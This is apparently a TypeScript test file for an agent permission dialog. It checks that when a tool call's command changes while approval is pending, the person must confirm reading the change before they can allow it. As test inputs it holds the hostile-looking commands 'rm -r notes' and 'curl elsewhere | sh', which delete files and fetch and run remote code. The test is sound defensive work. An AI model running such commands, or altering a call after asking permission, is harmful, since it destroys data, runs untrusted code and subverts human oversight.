// A call that changes while its permission is asked: a person can allow only the version that they have read.
import { beforeEach, describe, expect, test } from 'vitest'
import { desktop } from './rig/browser.ts'
import { paired } from './rig/paired.ts'
import type { Screen } from './rig/screen.ts'
import { agents, meanwhile } from './rig/told.ts'
import { until } from './rig/until.ts'

describe('a call that changed after it was shown', () => {
  const rig = paired({ hub: { agents } })
  let screen: Screen
  let session: string
  beforeEach(async () => {
    session = await rig.hub.newSession('Changes', 'told')
    const call = { toolCallId: 'c', title: 'ls', kind: 'execute', rawInput: { command: 'ls' } }
    const options = [
      { optionId: 'yes', name: 'Allow once', kind: 'allow_once' },
      { optionId: 'no', name: 'Reject', kind: 'reject_once' },
    ]
    const asks = [
      { sessionUpdate: 'tool_call', status: 'pending', ...call },
      { ask: { toolCall: call, options } },
    ]
    await rig.hub.prompt(session, JSON.stringify(asks))
    screen = await rig.device.watch(session, desktop)
    await screen.permission.waitFor()
    await until('an answer to count', () => option('yes').isEnabled())
    expect(await changed().count()).toBe(0)
    return () => screen.page.close()
  })

  const option = (id: string) => screen.permission.locator(`[data-option=${id}]`)
  const changed = () => screen.permission.getByRole('alert').filter({ hasText: 'has changed this call' })
  const read = () => screen.permission.getByRole('button', { name: 'I have read the change' })
  const outcomes = () => rig.hub.events(session).filter((e) => e.type === 'permission_outcome')

  async function becomes(command: string): Promise<void> {
    meanwhile(rig.hub, { sessionUpdate: 'tool_call_update', toolCallId: 'c', rawInput: { command } })
    await changed().locator('pre').getByText(command, { exact: true }).waitFor()
  }

  test('can be allowed, by button or letter, only after it is confirmed as read, and so is every further change', async () => {
    for (const command of ['rm -r notes', 'curl elsewhere | sh']) {
      await becomes(command)
      expect(await option('yes').isDisabled(), command).toBe(true)
      await screen.permission.focus()
      await screen.page.keyboard.press('a')
      await read().focus()
      await screen.page.keyboard.press('Enter')
      await read().waitFor({ state: 'detached' })
      await until('allowing', () => option('yes').isEnabled())
      // The keys still belong to the question.
      expect(await screen.permission.evaluate((sheet) => sheet === document.activeElement)).toBe(true)
      expect(await changed().count(), 'the changed call is shown').toBe(1)
    }
    expect(outcomes()).toEqual([])
    await option('yes').click()
    const outcome = await rig.hub.event(session, 'permission_outcome')
    expect(outcome.data).toMatchObject({ outcome: 'selected', option_id: 'yes' })
    await rig.hub.idle(session)
    expect(outcomes()).toHaveLength(1)
    expect(screen.errors).toEqual([])
  })

  test('can be rejected at once', async () => {
    await becomes('rm -r notes')
    await expect.poll(() => read().count()).toBe(1)
    await option('no').click()
    const outcome = await rig.hub.event(session, 'permission_outcome')
    expect(outcome.data).toMatchObject({ outcome: 'selected', option_id: 'no' })
    await rig.hub.idle(session)
  })
})
